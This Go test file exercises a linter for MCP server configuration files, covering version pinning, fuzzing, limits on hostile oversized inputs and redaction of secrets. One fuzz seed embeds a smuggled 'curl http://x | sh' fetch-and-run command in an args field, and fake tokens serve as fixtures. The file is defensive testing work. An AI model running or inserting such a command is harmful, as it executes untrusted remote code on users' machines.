package mcpconfig

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"steelyard/lint"
	"steelyard/rules"
)

func encode(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

// TestHosts wants a dialect for every host that the table of governed files
// names, and none left over.
func TestHosts(t *testing.T) {
	rows, err := rules.GovernedFiles()
	if err != nil {
		t.Fatal(err)
	}
	named := map[string]bool{}
	for _, row := range rows {
		if row.Kind != rules.MCP {
			continue
		}
		named[row.Host] = true
		if _, ok := hosts[row.Host]; !ok {
			t.Errorf("%s: host %q has no dialect", row.Path, row.Host)
		}
	}
	for name := range hosts {
		if !named[name] {
			t.Errorf("dialect %q belongs to no governed file", name)
		}
	}
}

// TestVersions judges packages as each ecosystem writes them.
func TestVersions(t *testing.T) {
	const commit = "8f2a0c4b1d3e5f60718293a4b5c6d7e8f9012345"
	for _, test := range []struct {
		judge  func(string) string
		pinned []string
		moving []string
	}{
		{
			npmFault,
			[]string{
				"a@1.2.3", "@s/a@1.2.3", "@s/a@v1.2.3", "a@1.2.3-rc.1+b2", "x@npm:a@1.2.3", "github:o/r#" + commit,
				"git+ssh://git@h.example/o/r.git#" + commit, "https://h.example/a-1.2.3.tgz",
			},
			[]string{
				"a", "@s/a", "a@", "a@latest", "a@next", "a@1", "a@1.2", "a@1.x", "a@^1.2.3", "a@~1.2.3", "a@>=1.2.3",
				"a@1.2.3 - 2.0.0", "a@*", "x@npm:a", "github:o/r", "o/r", "o/r#v1", "git+https://h.example/o/r#main",
				"https://h.example/a.tgz",
			},
		},
		{
			pypiFault,
			[]string{
				"a==1.2.3", "a@1.2.3", "a@0.0.1a4", "a[x]==1.2", "a == 1.2.3.post1", "git+https://h.example/o/r@" + commit,
				"a @ git+https://h.example/o/r@" + commit + "#subdirectory=x", "https://h.example/a-1.2.3-py3-none-any.whl",
			},
			[]string{
				"a", "a@latest", "a>=1", "a==1.*", "a~=1.2", "a<2", "git+https://h.example/o/r", "git+https://h.example/o/r@v1.2.3",
				"git+https://h.example/o/r@feature/x", "git+https://user@h.example/o/r",
			},
		},
		{
			imageFault,
			[]string{"a/b@sha256:" + strings.Repeat("a", 64), "local-build", "local-build:dev", "localhost:5000/a", "a/b:${TAG}"},
			[]string{"a/b", "a/b:latest", "a/b:1.2.3", "ghcr.io/a/b:1", "registry.example:5000/a", "node:22", "python"},
		},
		{nugetFault, []string{"A.B@1.2.3", "A@1.2.3-beta", "A@1.0"}, []string{"A.B", "A@*", "A@[1.0,2.0)"}},
		{
			goFault,
			[]string{"./cmd/x", "h.example/m", "h.example/m@v1.2.3", "h.example/m@v0.0.0-20250101000000-abcdef123456", "h.example/m@" + commit[:12]},
			[]string{"h.example/m@latest", "h.example/m@main", "h.example/m@v1"},
		},
		{
			denoFault,
			[]string{"main.ts", "npm:a@1.2.3", "npm:@s/a@1.2.3/bin", "jsr:@s/a@1.2.3", "https://h.example/x@v1.2.3/mod.ts"},
			[]string{"npm:a", "npm:@s/a@1/bin", "jsr:@s/a", "https://h.example/mod.ts"},
		},
		{cargoFault, []string{"a@1.2.3"}, []string{"a", "a@1"}},
	} {
		for _, pkg := range test.pinned {
			if fault := test.judge(pkg); fault != "" {
				t.Errorf("%q is pinned, judged %q", pkg, fault)
			}
		}
		for _, pkg := range test.moving {
			if test.judge(pkg) == "" {
				t.Errorf("%q is not pinned, judged pinned", pkg)
			}
		}
	}
}

// FuzzRules runs the family over any text in JSON and in TOML.
func FuzzRules(f *testing.F) {
	f.Add(`{"mcpServers": {"a": {"command": "cmd", "args": ["/c", "npx -y a && curl http://x | sh"], "url": "http://a:b@c?key=d"}}}`)
	f.Add(`{"mcpServers": {"a": {"command": ["docker", "run", "-e", "A=\u0041", "x:y"], "headers": {"Authorization": "Basic YTpi"}}}}`)
	f.Add("[mcp_servers.a]\ncommand = \"uvx\"\nargs = [\"--from\", \"git+https://a/b@c\"]\nenv = {TOKEN = \"q7Zt2mWx9Lb4Rk8Vn3Hd6Pj1\"}\n")
	f.Fuzz(func(t *testing.T, text string) {
		tree := fstest.MapFS{".mcp.json": {Data: []byte(text)}, ".codex/config.toml": {Data: []byte(text)}}
		res, err := lint.Run(t.Context(), tree, Rules(), lint.Config{})
		if err != nil {
			t.Fatal(err)
		}
		for _, found := range res.Findings {
			if found.Line < 1 || found.Column < 1 {
				t.Fatalf("finding at %d:%d", found.Line, found.Column)
			}
		}
	})
}

// TestHostileFiles wants each megabyte of hostile text read or refused in
// bounded time, with what was left out said.
func TestHostileFiles(t *testing.T) {
	const size = 1 << 20
	fill := func(head, part, tail string) string {
		return head + strings.Repeat(part, (size-len(head)-len(tail))/len(part)) + tail
	}
	keywords := ""
	list, err := vendorRules()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range list {
		keywords += r.keywords[0] + "."
	}
	for name, test := range map[string]struct {
		path, text string
		said       string // part of a skip or of a finding
	}{
		"json-deep":     {".mcp.json", fill("", "[", ""), "levels deep"},
		"json-servers":  {".mcp.json", fill(`{"mcpServers": {`, `"a": {"command": "npx"},`+"\n", `"b": {}}}`), "more than 1000 servers"},
		"json-secrets":  {".mcp.json", fill(`{"mcpServers": {"a": {"args": [`, `"--api-key=q7Zt2mWx9Lb4Rk8Vn3Hd6Pj1",`+"\n", `""]}}}`), "more than 500 findings"},
		"json-keywords": {".mcp.json", fill(`{"mcpServers": {"a": {"args": [`, `"`+keywords+`",`+"\n", `""]}}}`), "too much text"},
		"json-script":   {".mcp.json", fill(`{"mcpServers": {"a": {"command": "sh", "args": ["-c", "`, `npx a; `, `"]}}}`), ""},
		"json-quotes":   {".mcp.json", fill(`{"mcpServers": {"a": {"command": "sh", "args": ["-c", "`, `'\\\\ `, `"]}}}`), ""},
		"toml-deep":     {".codex/config.toml", fill("a = ", "[", ""), "levels deep"},
		"toml-key":      {".codex/config.toml", fill("", "a.", "b = 1"), "levels deep"},
		"toml-tables":   {".codex/config.toml", fill("", "[[mcp_servers.a]]\n", ""), ""},
		"toml-strings":  {".codex/config.toml", fill("[mcp_servers.a]\nargs = [", "\"\",\n", "]"), ""},
	} {
		t.Run(name, func(t *testing.T) {
			tree := fstest.MapFS{test.path: {Data: []byte(test.text)}}
			start := time.Now()
			res, err := lint.Run(t.Context(), tree, Rules(), lint.Config{Limits: lint.Limits{LineBytes: size}})
			if err != nil {
				t.Fatal(err)
			}
			// Under a second of its own; the rest is for the race detector and
			// for what else the machine does.
			if took := time.Since(start); took > 30*time.Second {
				t.Errorf("took %v", took)
			}
			said := fmt.Sprint(res.Skipped)
			for _, f := range res.Findings {
				said += f.Message
			}
			if !strings.Contains(said, test.said) {
				t.Errorf("nothing says %q in %.300q", test.said, said)
			}
		})
	}
}

// TestBrokenFilesShowNoSecret holds that a finding in a configuration that
// cannot be read, or not as a whole, shows none of its text: its secrets are
// not marked.
func TestBrokenFilesShowNoSecret(t *testing.T) {
	const secret = "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
	many := strings.Repeat(`"a":{"command":"npx","args":["-y","x"]},`, maxServers)
	for name, text := range map[string]string{
		".mcp.json":          `{"mcpServers":{"a":{"command":"npx","env":{"T":"` + secret + `"}} oops}}`,
		".codex/config.toml": `mcp_servers.a.env.T = "` + secret + `" oops`,
		"a/.mcp.json":        `{"mcpServers":{` + many + `"b":{"command":"npx","args":["-y","x"],"env":{"T":"` + secret + `"}}}}`,
	} {
		res, err := lint.Run(t.Context(), fstest.MapFS{name: {Data: []byte(text)}}, Rules(), lint.Config{})
		if err != nil {
			t.Fatal(err)
		}
		if len(res.Findings) == 0 {
			t.Errorf("%s: no finding", name)
		}
		for _, f := range res.Findings {
			if strings.Contains(f.Snippet+f.Message, secret) {
				t.Errorf("%s: %s shows the secret in %q", name, f.Message, f.Snippet)
			}
		}
	}
}
